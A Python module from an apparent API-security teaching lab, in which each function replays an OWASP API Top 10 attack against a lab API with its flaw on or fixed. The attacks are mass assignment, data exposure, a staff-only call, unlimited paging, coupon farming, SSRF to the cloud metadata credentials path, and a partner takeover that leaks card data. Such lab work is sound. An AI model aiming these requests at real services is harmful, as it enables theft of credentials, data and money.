"""Notebook 08's attacks, one function per flaw, each replayable through any door, with the flaw on or fixed.

Every attack is Alice's own script (:mod:`.caller`): an ordinary token and real HTTP. It turns on, for its
own duration, the weakness switch it exploits (unless ``fixed=True``: the hardened API), sends its requests
``door="api"`` (straight to the API), ``"gateway"`` (through the gateway, policy on) or ``"gateway-off"``
(through the gateway with every check switched off), and returns an :class:`Attempt`. Whether it *worked*
is read from the lab's own records: the ``exploited`` events the API's detectors wrote meanwhile
(``lab.exploits()``), never from the answers alone. Each replay starts from empty rate-limit windows and from
a new account for Alice, and leaves her account as a new one again.
"""
from __future__ import annotations

import contextlib
import json
from dataclasses import dataclass, field

from .caller import base_url, token_for

DOORS = {"api": "straight to the API", "gateway": "through the gateway",
         "gateway-off": "through the gateway, every check off"}
#: The gateway's policy with every check switched off: it forwards everything.
POLICY_OFF = {"introspection": False, "rate_limit": False, "credential_placement": False, "size_limits": False,
              "allow_list": False}
#: How many redemptions the coupon script sends.
COUPON_TRIES = 40


@dataclass
class Attempt:
    """One replay of one attack."""

    flaw: str
    door: str
    fixed: bool
    statuses: list[int]
    exploited: int                 # exploited events the API's detectors wrote during the attempt
    got: str                       # what the attacker got, in a few words
    stopped_by: str = ""           # who refused, when someone did
    events: list = field(default_factory=list, repr=False)

    @property
    def worked(self) -> bool:
        return self.exploited > 0

    @property
    def answers(self) -> str:
        counts: dict[int, int] = {}
        for s in self.statuses:
            counts[s] = counts.get(s, 0) + 1
        return ", ".join(f"{n} × {s}" if n > 1 else str(s) for s, n in counts.items())

    def line(self) -> str:
        state = "fixed" if self.fixed else "flaw on"
        verdict = f"EXPLOITED ({self.exploited} detector record{'s' * (self.exploited != 1)})" if self.worked \
            else "not exploited" + (f": refused by {self.stopped_by}" if self.stopped_by else "")
        return f"{DOORS[self.door]}, {state}: {self.answers} -> {verdict}; {self.got}"

    def __repr__(self) -> str:
        return f"{self.flaw}\n  {self.line()}"


def _run(lab, flaw: str, switch: str, door: str, fixed: bool, send, anonymous: bool = False) -> Attempt:
    """Replay one attack: *send(call)* makes its requests with ``call(method, path, **kwargs)``."""
    if door not in DOORS:
        raise ValueError(f"door is one of {list(DOORS)}, not {door!r}")
    lab.store.reset_account("alice")
    lab.gateway.clear_rate_windows()
    token = None if anonymous else token_for(lab)
    before = len(lab.store.events(event="exploited"))
    first = lab.gateway.records[-1].id + 1 if lab.gateway.records else 1
    url = base_url(lab, "api" if door == "api" else "gateway")
    policy = lab.gateway.policy.changed(**POLICY_OFF) if door == "gateway-off" else contextlib.nullcontext()
    responses = []
    with lab.weaknesses.turned_on(**{switch: not fixed}), policy, lab.session() as s:
        def call(method, path, **kwargs):
            headers = {} if token is None else {"Authorization": f"Bearer {token}"}
            r = s.request(method, url + path, headers=headers, timeout=10, **kwargs)
            responses.append(r)
            return r
        got = send(call)
    events = lab.store.events(event="exploited")[before:]
    stopped = ""
    refused = next((i for i, r in enumerate(responses) if r.status_code >= 400), None)
    if not events and refused is not None:       # who refused first: the gateway's log says if it was the gateway
        logged = [r for r in lab.gateway.records if r.id >= first] if door != "api" else []
        record = logged[refused] if refused < len(logged) else None
        r = responses[refused]
        stopped = f"the gateway ({record.reason})" if record is not None and record.reason != "allowed" else \
            f"the API ({r.status_code} {_error(r)})"
    lab.store.reset_account("alice")
    lab.gateway.clear_rate_windows()
    return Attempt(flaw, door, fixed, [r.status_code for r in responses], len(events), got, stopped,
                   [e["detail"] for e in events])


def _error(r) -> str:
    try:
        return r.json().get("error", "")
    except ValueError:
        return ""


def _refused(r) -> str:
    return f"refused ({r.status_code} {_error(r)})".replace(" )", ")")


# -- the attacks ------------------------------------------------------------------------------------------
def mass_assignment(lab, door: str = "gateway", fixed: bool = False) -> Attempt:
    """API3:2023: ``PATCH /me`` with the fields the app's form never shows: a plan and print credits."""
    def send(call):
        r = call("PATCH", "/me", json={"display_name": "Alice Liddell", "plan": "pro", "print_credits": 500})
        if r.status_code != 200:
            return _refused(r)
        account = call("GET", "/me/account").json()
        return f"plan {account['plan']}, {account['print_credits']} print credits"
    return _run(lab, "API3 mass assignment (PATCH /me with plan and credits)", "mass_assignment", door, fixed, send)


def data_exposure(lab, door: str = "gateway", fixed: bool = False) -> Attempt:
    """API3:2023: ``GET /people``, which the app shows as a list of names; what else the answer carries."""
    def send(call):
        r = call("GET", "/people")
        if r.status_code != 200:
            return _refused(r)
        bob = next(p for p in r.json() if p["username"] == "bob")
        extra = [k for k in bob if k not in ("username", "display_name")]
        return f"bob's {', '.join(extra)} ({bob['email']})" if extra else "names only"
    return _run(lab, "API3 excessive data exposure (GET /people)", "excessive_data_exposure", door, fixed, send)


def staff_function(lab, door: str = "gateway", fixed: bool = False) -> Attempt:
    """API5:2023: ``POST /support/credits``, the staff page's button, called with Alice's ordinary token."""
    def send(call):
        r = call("POST", "/support/credits", json={"username": "alice", "credits": 50})
        return f"50 credits for alice (now {r.json()['print_credits']})" if r.status_code == 200 else _refused(r)
    return _run(lab, "API5 a staff function (POST /support/credits)", "bfla", door, fixed, send)


def whole_catalogue(lab, door: str = "gateway", fixed: bool = False) -> Attempt:
    """API4:2023: ``GET /catalogue?limit=100000``, anonymous, one request."""
    def send(call):
        r = call("GET", "/catalogue?limit=100000")
        if r.status_code != 200:
            return _refused(r)
        return f"{len(r.json()['items']):,} products, {len(r.content) / 1e6:.1f} MB in one answer"
    return _run(lab, "API4 the whole catalogue in one request", "unlimited_page_size", door, fixed, send,
                anonymous=True)


def coupon_farm(lab, door: str = "gateway", fixed: bool = False, tries: int = COUPON_TRIES) -> Attempt:
    """API6:2023: the free-print coupon redeemed *tries* times in a row by one account."""
    def send(call):
        rs = [call("POST", "/coupons/redeem", json={"code": "FREEPRINT"}) for _ in range(tries)]
        served = sum(r.status_code == 200 for r in rs)
        limited = sum(r.status_code == 429 for r in rs)
        return (f"{served} free print{'s' * (served != 1)} from {tries} tries"
                + (f" ({limited} cut off by a rate limit)" if limited else ""))
    return _run(lab, f"API6 the free-print coupon, {tries} times", "unlimited_coupon", door, fixed, send)


def metadata_url(lab, path: str = "/latest/meta-data/iam/security-credentials/") -> str:
    """A URL on the internal metadata service (its port is the lab's; the gateway never forwards there)."""
    return lab.metadata_service.url + path


def webhook_ssrf(lab, door: str = "gateway", fixed: bool = False) -> Attempt:
    """API7:2023: a webhook test whose URL is the internal metadata service's list of roles."""
    def send(call):
        r = call("POST", "/webhooks/test", json={"url": metadata_url(lab)})
        if r.status_code != 200:
            return _refused(r)
        answer = r.json()
        if not answer["delivered"]:
            return "the webhook test refused the URL"
        return f"the metadata service's answer: the role {answer['body'].strip()!r}"
    return _run(lab, "API7 a webhook test aimed at the metadata service", "ssrf", door, fixed, send)


#: What the attacker's page answers in the print partner's place: an accepted order, nothing to pay.
FAKE_ORDER = {"order_id": "PP-999999", "status": "accepted", "price_cents": 0}


@contextlib.contextmanager
def partner_taken_over(lab, path: str = "/orders"):
    """The attacker takes the print partner over: its orders redirect (307) to a page on the attacker's server."""
    page = lab.attacker.serve(path, json.dumps(FAKE_ORDER), status=201, content_type="application/json")
    lab.partner.hijack(page)
    try:
        yield page
    finally:
        lab.partner.restore()


def partner_takeover(lab, door: str = "gateway", fixed: bool = False) -> Attempt:
    """API10:2023: Alice orders a print while the print partner is in the attacker's hands."""
    def send(call):
        seen = len(lab.attacker.records)
        with partner_taken_over(lab):
            r = call("POST", "/prints", json={"photo_id": 1})
        stolen = [h for h in lab.attacker.records[seen:] if b"4242" in h.body]
        if stolen:
            return "alice's card (holder, last 4 digits, expiry) on the attacker's server"
        return _refused(r)
    return _run(lab, "API10 a print order while the partner is taken over", "trust_third_party", door, fixed, send)


#: Every attack of the notebook, in its order, with the OWASP item and what a gateway can do about it.
ATTACKS = (
    ("API3:2023", mass_assignment, "no: a valid body on an allowed route; which fields a user may set is the API's "
                                   "rule (a gateway that validated bodies against the OpenAPI schema could refuse "
                                   "unknown fields; this one does not)"),
    ("API3:2023", data_exposure, "no: the request is fine, the answer says too much, and the gateway passes answers "
                                 "on unread"),
    ("API5:2023", staff_function, "partly: it checks scopes, not roles; give the staff function a scope of its own "
                                  "and it stops every other token at the edge"),
    ("API4:2023", whole_catalogue, "partly: it counts requests, not what each costs; a cap on ?limit= or on the "
                                   "answer's size at the edge would help, and this one has neither"),
    ("API6:2023", coupon_farm, "partly: its rate limit slows the script down (30 a minute per app), but 30 free "
                               "prints a minute is still 29 too many: 'once per account' is a business rule"),
    ("API7:2023", webhook_ssrf, "no: it sees a valid webhook test; the fetch happens behind it, from the API"),
    ("API10:2023", partner_takeover, "no: the API's call to the partner never passes through it"),
)
